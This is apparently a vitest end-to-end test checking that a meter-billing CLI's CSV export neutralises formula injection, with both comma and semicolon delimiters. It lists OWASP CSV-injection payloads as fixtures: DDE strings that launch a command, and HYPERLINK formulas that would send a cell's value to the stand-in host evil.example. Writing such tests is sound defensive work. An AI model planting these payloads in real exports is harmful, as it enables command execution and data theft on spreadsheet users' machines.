// OWASP CSV injection, end to end: payloads in file names (what a meter reader's card may hold)
// and in every string the service supplies that reaches the billing CSV (meter type, error
// messages of failed tasks, result source, created_at, even the reading itself) go through a real
// run and the real export. A spreadsheet must find no cell that starts like a formula: each such
// value is written with a leading apostrophe, nothing else changed. Both delimiters.
// https://owasp.org/www-community/attacks/CSV_Injection
import { parse } from 'csv-parse/sync';
import { copyFileSync, mkdirSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { main } from '../../main/cli/main';
import { json, startProxy, type ManglingProxy } from '../bad-input/helpers/mangling-proxy';
import { harness, type Harness } from '../helpers/engine-harness';
import { captureIo } from '../helpers/cli-io';

/** Cell starts a spreadsheet would evaluate (OWASP: = + - @ tab CR). */
const FORMULA_START = /^[=+\-@\t\r]/;

// File names cannot hold '/', so the payloads that need one are given without it.
const NAME_PAYLOADS = [
  "=cmd|' -C calc'!A0.jpg",
  "+cmd|' -C calc'!A0.jpg",
  "-2+3+cmd|' -C calc'!A0.jpg",
  "@SUM(1+1)*cmd|' -C calc'!A0.jpg",
  '\t=1+1.jpg',
  '\r=1+1.jpg',
  '=HYPERLINK("http:evil.example?x="&A1,"click").jpg',
  'plain; =1+1.jpg',
];

const SERVER_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the reading")',
  '=1+1;=2+2',
];

let h: Harness | undefined;
let proxy: ManglingProxy | undefined;
afterEach(async () => {
  await proxy?.close();
  await h?.close();
  h = proxy = undefined;
});

describe(
  'CSV injection from file names and from the service, end to end',
  { timeout: 90_000 },
  () => {
    it.each([',', ';'] as const)(
      'no exported cell starts like a formula (delimiter %j)',
      async (delimiter) => {
        h = await harness({ photos: NAME_PAYLOADS.length, duplicates: 0, subfolders: false });
        const folder = path.join(h.dir, 'card');
        mkdirSync(folder);
        const sources = readdirSync(h.photos).filter((n) => /\.(jpe?g|png|webp)$/i.test(n));
        NAME_PAYLOADS.forEach((name, i) => {
          copyFileSync(path.join(h?.photos ?? '', sources[i] ?? ''), path.join(folder, name));
        });

        // The service puts a payload in every string of every task it describes; every other task
        // fails, with a payload as its error message, and one reading is a payload too.
        // Each task gets the payload of its creation order (8 photos, 8 payloads: every payload
        // ends up in the CSV); even ones fail with it as their message, odd ones carry it as their
        // result source, and one of them has it as its reading.
        const order = new Map<string, number>();
        const taint = (v: unknown): unknown => {
          if (Array.isArray(v)) return v.map(taint);
          if (typeof v !== 'object' || v === null) return v;
          const o: Record<string, unknown> = {};
          for (const [k, x] of Object.entries(v)) o[k] = taint(x);
          if (typeof o.task_id !== 'string') return o;
          if (!order.has(o.task_id)) order.set(o.task_id, order.size);
          const i = order.get(o.task_id) ?? 0;
          const p = SERVER_PAYLOADS[i % SERVER_PAYLOADS.length] ?? '=1';
          o.created_at = p;
          if (o.status !== 'done' && o.status !== 'failed') return o;
          o.meter_type = p;
          if (i % 2 === 0) {
            o.status = 'failed';
            o.result_source = 'failed';
            o.final_reading = '-';
            o.error_message = p;
          } else {
            o.result_source = p;
            if (i === 3) o.final_reading = '-1+1';
          }
          return o;
        };
        proxy = await startProxy(h.sandbox.url, {
          after: (_ex, up) =>
            up.json === undefined ? undefined : json(up.status, taint(up.json), up.headers),
        });
        const csv = path.join(h.dir, 'billing.csv');
        const io = captureIo({
          METER_DESK_BASE_URL: proxy.url,
          METER_DESK_API_KEY: h.sandbox.apiKey,
        });
        const code = await main(
          [
            'run',
            folder,
            '--db',
            h.dbFile,
            '--export',
            csv,
            '--delimiter',
            delimiter,
            '--batch',
            'never',
          ],
          io,
        );
        expect(code, io.all()).toBe(0);
        const rows: string[][] = parse(readFileSync(csv, 'utf8'), {
          bom: true,
          delimiter,
          record_delimiter: '\r\n',
        });
        const [header, ...data] = rows;
        expect(header?.slice(0, 3)).toEqual(['file', 'reading', 'status']);
        expect(data).toHaveLength(NAME_PAYLOADS.length);

        let neutralised = 0;
        for (const row of data) {
          for (const cell of row) {
            expect(cell, JSON.stringify(row)).not.toMatch(FORMULA_START);
            if (cell.startsWith("'") && FORMULA_START.test(cell.slice(1))) neutralised++;
          }
        }
        // Every payload arrived, shown as text: the apostrophe is the only change.
        for (const name of NAME_PAYLOADS) {
          const shown = FORMULA_START.test(name) ? `'${name}` : name;
          expect(
            data.map((r) => r[0]),
            JSON.stringify(name),
          ).toContain(shown);
        }
        const cells = data.flat();
        for (const p of SERVER_PAYLOADS.filter((x) => FORMULA_START.test(x)))
          expect(
            cells.some((c) => c === `'${p}` || c.startsWith(`'${p}`)),
            JSON.stringify(p),
          ).toBe(true);
        expect(cells).toContain("'-1+1");
        expect(neutralised).toBeGreaterThan(NAME_PAYLOADS.length + SERVER_PAYLOADS.length);
      },
    );
  },
);
